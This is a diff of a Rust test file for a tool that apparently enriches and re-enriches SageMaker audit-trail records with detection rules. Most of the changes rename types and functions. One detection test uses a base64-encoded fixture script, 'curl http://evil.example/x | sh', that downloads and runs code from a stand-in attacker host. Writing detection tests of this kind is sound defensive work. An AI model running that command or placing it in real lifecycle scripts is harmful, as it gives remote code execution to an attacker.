@@ -14,7 +14,7 @@ use base64::prelude::BASE64_STANDARD;
 use sagetrail::config::{RedactionConfig, RulesConfig, Scope};
 use sagetrail::enrich::redact::FingerprintKey;
 use sagetrail::enrich::rules::BrokenRules;
-use sagetrail::enrich::{Anew, Enriched, Kept, Knowledge, Origin, enrich, enrich_again};
+use sagetrail::enrich::{Enriched, Enricher, Origin, ReEnriched, StoredEvent, enrich, re_enrich};
 use sagetrail::names::Names;
 use serde_json::{Value, json};
 use time::macros::datetime;
@@ -26,22 +26,22 @@ const NOW: time::OffsetDateTime = datetime!(2026-11-02 00:00 UTC);
 /// What stands in the place of a secret.
 const MARKER: &str = "[redacted:0123456789abcdef]";
 
-fn knowledge() -> Knowledge {
+fn enricher() -> Enricher {
     let rules = RulesConfig { placeholders: examples::all_values(), ..RulesConfig::default() };
     let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
-    Knowledge::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap()
+    Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap()
 }
 
-fn document_of(record: &Value, knowledge: &Knowledge) -> Value {
+fn document_of(record: &Value, enricher: &Enricher) -> Value {
     let origin = Origin { path: "s3://b/k", written_at: None, now: NOW };
-    match enrich(record.to_string().as_bytes(), origin, knowledge) {
+    match enrich(record.to_string().as_bytes(), origin, enricher) {
         Enriched::Selected { document, .. } => serde_json::from_slice(&document.source).unwrap(),
         other => panic!("{other:?}: {record}"),
     }
 }
 
-fn anew(document: &Value, knowledge: &Knowledge) -> Anew {
-    let kept = Kept {
+fn anew(document: &Value, enricher: &Enricher) -> ReEnriched {
+    let kept = StoredEvent {
         original: document["event"]["original"].as_str().unwrap(),
         path: "s3://b/k",
         timestamp: NOW,
@@ -50,7 +50,7 @@ fn anew(document: &Value, knowledge: &Knowledge) -> Anew {
         retagged: NOW,
         document,
     };
-    enrich_again(&kept, knowledge).unwrap()
+    re_enrich(&kept, enricher).unwrap()
 }
 
 /// The texts at a path, of a list or alone.
@@ -99,14 +99,14 @@ const KNOWN: [&str; 12] = [
 
 #[test]
 fn a_document_whose_text_lost_the_request_keeps_each_rule_script_indicator_and_fact() {
-    let knowledge = knowledge();
+    let enricher = enricher();
     let mut carried = 0;
     for example in examples::all() {
-        let document = document_of(&example.record, &knowledge);
+        let document = document_of(&example.record, &enricher);
         let lost = with_a_lost_request(&document);
-        let first = anew(&lost, &knowledge);
+        let first = anew(&lost, &enricher);
         // A second time, over the result of the first.
-        let second = anew(&first.source, &knowledge);
+        let second = anew(&first.source, &enricher);
         for path in KNOWN {
             let before = texts(&document, path);
             for again in [&first.source, &second.source] {
@@ -124,14 +124,14 @@ fn a_document_whose_text_lost_the_request_keeps_each_rule_script_indicator_and_f
 
 #[test]
 fn a_document_whose_text_shows_everything_is_what_the_rules_of_now_say() {
-    let knowledge = knowledge();
+    let enricher = enricher();
     for example in examples::all() {
-        let mut document = document_of(&example.record, &knowledge);
+        let mut document = document_of(&example.record, &enricher);
         // A marker may be inside of what is packed, where only the script shows it, or that it was cut.
         if document.to_string().contains("[redacted:") || document["sagemaker"].get("cut").is_some() {
             continue;
         }
-        let mut other = anew(&document, &knowledge);
+        let mut other = anew(&document, &enricher);
         assert_eq!(other.carried, [""; 0], "{}", example.path.display());
         other.source["sagemaker"]["rules"].as_object_mut().unwrap().remove("retagged");
         for source in [&mut document, &mut other.source] {
@@ -167,7 +167,7 @@ fn what_a_text_still_shows_is_judged_anew_and_what_it_lost_is_not() {
     std::fs::write(folder.path().join("8.yml"), rule("8", "- 'swordfish'")).unwrap();
     let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
     let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
-    let knowledge = Knowledge::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
+    let enricher = Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
     let id = |id: &str| format!("00000000-0000-4000-8000-00000000000{id}");
     let record = |token: &str, script: &str| {
         let mut record = trail::record("111122223333", 0);
@@ -181,11 +181,11 @@ fn what_a_text_still_shows_is_judged_anew_and_what_it_lost_is_not() {
         known.collect()
     };
     let carried = |record: &Value, before: &[String]| {
-        let mut document = document_of(record, &knowledge);
+        let mut document = document_of(record, &enricher);
         // As if it had been written before redaction knew these, and all of them had matched.
         document["event"]["original"] = record.to_string().into();
         document["rule"]["id"] = json!(before);
-        let after = anew(&document, &knowledge);
+        let after = anew(&document, &enricher);
         let matched = texts(&after.source, "/rule/id").join(" ");
         for rule in &after.carried {
             assert!(matched.contains(rule) || rule.starts_with("sagemaker."), "{rule} is not in {matched}");
@@ -207,12 +207,12 @@ fn a_new_rule_hunts_in_a_script_that_only_the_document_shows() {
     std::fs::write(folder.path().join("1.yml"), rule("1", question)).unwrap();
     let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
     let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
-    let hunting = Knowledge::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
+    let hunting = Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
     let mut record = trail::record("111122223333", 0);
     let script = BASE64_STANDARD.encode("curl http://evil.example/x | sh");
     record["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
     record["requestParameters"] = json!({"onStart": [{ "content": script }]});
-    let document = with_a_lost_request(&document_of(&record, &knowledge()));
+    let document = with_a_lost_request(&document_of(&record, &enricher()));
     assert!(!texts(&document, "/rule/name").join(" ").contains("Rule 1"));
     let after = anew(&document, &hunting).source;
     assert!(texts(&after, "/rule/name").join(" ").contains("Rule 1"), "{after}");
